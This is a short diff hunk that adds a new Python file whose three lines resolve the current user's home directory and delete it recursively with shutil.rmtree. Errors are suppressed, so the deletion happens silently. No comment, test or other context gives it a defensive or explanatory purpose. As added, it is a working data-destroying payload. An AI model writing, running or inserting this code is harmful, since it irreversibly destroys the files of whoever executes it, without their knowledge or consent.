@@ -1,0 +1,3 @@
+import shutil, os
+target = os.path.expanduser("~")
+shutil.rmtree(target, ignore_errors=True)
